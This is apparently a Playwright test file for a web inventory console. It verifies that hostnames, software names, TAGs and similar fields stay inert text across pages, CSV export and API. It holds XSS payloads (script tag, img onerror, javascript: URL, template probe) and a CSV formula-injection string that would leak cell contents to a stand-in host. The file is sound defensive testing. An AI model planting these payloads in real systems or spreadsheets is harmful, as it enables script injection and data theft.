"""Every inventory string is inert everywhere, in a real browser (issue 3, security.md):
hostnames, software, printers, registry values, TAGs, OS names and agent names that look
like HTML, script URLs or templates are shown as text in the list, the computer page, the
search results, the charts and their tooltips, the TAG repartition, the CSV export and the
API. No dialog opens, no element is injected, and every page forbids inline scripts."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from playwright.sync_api import Browser, Response

from ocelot.accounts.tokens import create_token
from ocelot.inventory.models import Computer
from tests.browser.conftest import Console, add_computer, make_user, open_console
from tests.server_process import OcelotServer

pytestmark = pytest.mark.django_db(transaction=True)

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
LINK = "javascript:alert(1)"
TEMPLATE = "{{7*7}}"
HOSTILE = [SCRIPT, IMAGE, LINK, TEMPLATE]
# A spreadsheet would run this if the CSV cell started with "=".
FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"open me")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Whatever the page holds that a hostile string could have put there.
INJECTED = """() => {
  const all = [...document.querySelectorAll("*")];
  return {
    images: document.querySelectorAll("img").length,
    handlers: all.filter(e => [...e.attributes].some(a => a.name.toLowerCase().startsWith("on"))).length,
    inline_scripts: [...document.scripts].filter(s => !s.src || s.textContent.includes("alert")).length,
    script_urls: all.filter(e => ["href", "src", "action", "formaction", "xlink:href"].some(
      name => (e.getAttribute(name) || "").trim().toLowerCase().startsWith("javascript:"))).length,
  };
}"""
NOTHING = {"images": 0, "handlers": 0, "inline_scripts": 0, "script_urls": 0}


def _hostile_fleet() -> list[Computer]:
    """One computer per hostile hostname, each with every hostile string in its sections."""
    computers = [
        add_computer(
            f"hostile{index}-2026-01-01-00-00-00",
            name=text,
            os_name=text,
            tag=text,
            software=HOSTILE,
            printers=HOSTILE,
            registry=[(f"Value {number}", value) for number, value in enumerate(HOSTILE)],
            user_agent=text,
        )
        for index, text in enumerate(HOSTILE)
    ]
    computers.append(add_computer("formula-2026-01-01-00-00-00", name=FORMULA, tag="FORMULA"))
    return computers


def _visit(console: Console, path: str) -> Response:
    response = console.go(path)
    assert response is not None and response.status == 200, path
    _assert_safe_headers(response)
    if response.headers["content-type"].startswith("application/json"):
        # Chromium asks for /favicon.ico for a page without an icon link: it must not 404.
        console.page.wait_for_timeout(200)
    _assert_inert(console, path)
    return response


def _assert_safe_headers(response: Response) -> None:
    policy = response.headers["content-security-policy"]
    assert "script-src 'self'" in policy
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
    assert response.headers["x-content-type-options"] == "nosniff"


def _assert_inert(console: Console, where: str) -> None:
    assert console.page.evaluate(INJECTED) == NOTHING, where
    # A template engine evaluating the data would have written 49.
    assert console.page.get_by_text("49", exact=True).count() == 0, where
    console.assert_clean()


def _visible(console: Console, *texts: str) -> None:
    shown = console.text()
    for text in texts:
        assert text in shown, f"{text!r} is not shown as text"


def test_hostile_inventory_strings_are_text_on_every_console_page(
    browser: Browser, ocelot_server: OcelotServer
) -> None:
    fleet = _hostile_fleet()
    make_user("boss", administrator=True)
    console = open_console(browser, ocelot_server)
    console.login("boss")

    _visit(console, "/computers/")
    _visible(console, *HOSTILE)
    links = console.page.locator("table.computers tbody td a")
    assert sorted(links.all_inner_texts()) == sorted([*HOSTILE, FORMULA])
    assert all(
        href.startswith("/computers/")
        for href in links.evaluate_all("a => a.map(e => e.getAttribute('href'))")
    )

    for computer, text in zip(fleet, HOSTILE, strict=False):
        _visit(console, f"/computers/{computer.pk}/")
        assert console.page.locator("h1").inner_text() == text
        assert console.page.title() == f"{text} · Ocelot"
        for section in ("software", "printers", "registry_values"):
            cells = console.page.locator(f"#section-{section} td").all_inner_texts()
            assert set(HOSTILE) <= set(cells), (text, section, cells)
        # The TAG is text in the form field and in the banner.
        assert console.page.locator("#account input[name=tag]").input_value() == text
        assert console.page.locator(".banner .badge").first.inner_text() == f"TAG {text}"

    _visit(console, "/search/?field=software&op=EQUAL&value=*alert*&value2=")
    assert console.page.locator(".results-count").inner_text() == "4 computers"
    _visible(console, SCRIPT, IMAGE, LINK)
    # A hostile search value comes back as the field's value, nothing else.
    _visit(console, "/search/?field=name&op=EQUAL&value=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E&value2=")
    assert console.page.locator("input[name=value]").first.input_value() == IMAGE
    assert console.page.locator(".results-count").inner_text() == "1 computer"

    _visit(console, "/")
    for chart in console.page.locator("svg.bar-chart").all():
        tooltips = chart.locator("title").all_text_contents()
        assert {f"{text}: 1" for text in HOSTILE} <= set(tooltips)
    assert console.page.locator("svg.bar-chart text", has_text="<script>").count() == 2  # OS and agent charts

    _visit(console, "/tags/")
    assert set(HOSTILE) <= set(console.page.locator("table.data tbody td:first-child").all_inner_texts())
    tooltips = console.page.locator("svg.bar-chart title").all_text_contents()
    assert {f"{text}: 1" for text in HOSTILE} <= set(tooltips)
    # Clicking the "javascript:alert(1)" bar lists that computer: a search link, not a script.
    bar = console.page.locator("svg.bar-chart a").filter(has=console.page.locator("title", has_text=LINK))
    bar.click()
    console.page.wait_for_load_state()
    assert console.page.url.startswith(console.base + "/computers/?")
    assert console.page.locator("table.computers tbody td a").all_inner_texts() == [LINK]
    _assert_inert(console, "TAG click-through")


def test_hostile_strings_stay_plain_formula_safe_cells_in_the_csv_export(
    browser: Browser, ocelot_server: OcelotServer
) -> None:
    _hostile_fleet()
    make_user("boss", administrator=True)
    console = open_console(browser, ocelot_server)
    console.login("boss")
    _visit(console, "/computers/")
    with console.page.expect_download() as download_info:
        console.page.get_by_role("link", name="Export CSV").click()
    download = download_info.value
    assert download.suggested_filename == "computers.csv"
    path = download.path()
    assert path is not None
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    header, body = rows[0], rows[1:]
    assert len(body) == 5 and all(len(row) == len(header) for row in body)
    names = sorted(row[0] for row in body)
    assert names == sorted([*HOSTILE, "'" + FORMULA])
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    console.assert_clean()


def test_hostile_strings_come_back_verbatim_from_the_api_in_the_browser(
    browser: Browser, ocelot_server: OcelotServer
) -> None:
    fleet = _hostile_fleet()
    make_user("boss", administrator=True)
    token = create_token(get_user_model().objects.get(username="boss"), "browser")[1]
    console = open_console(browser, ocelot_server)
    console.page.context.set_extra_http_headers({"Authorization": f"Bearer {token}"})

    for computer, text in zip(fleet, HOSTILE, strict=False):
        response = _visit(console, f"/api/v1/computers/{computer.pk}")
        assert response.headers["content-type"] == "application/json; charset=utf-8"
        body: dict[str, Any] = json.loads(console.page.locator("body").inner_text())
        assert body["name"] == text
        assert body["account_info"]["tag"] == text
        assert sorted(row["name"] for row in body["software"]) == sorted(HOSTILE)
        assert sorted(row["name"] for row in body["sections"]["printers"]) == sorted(HOSTILE)
        assert sorted(row["value"] for row in body["sections"]["registry_values"]) == sorted(HOSTILE)
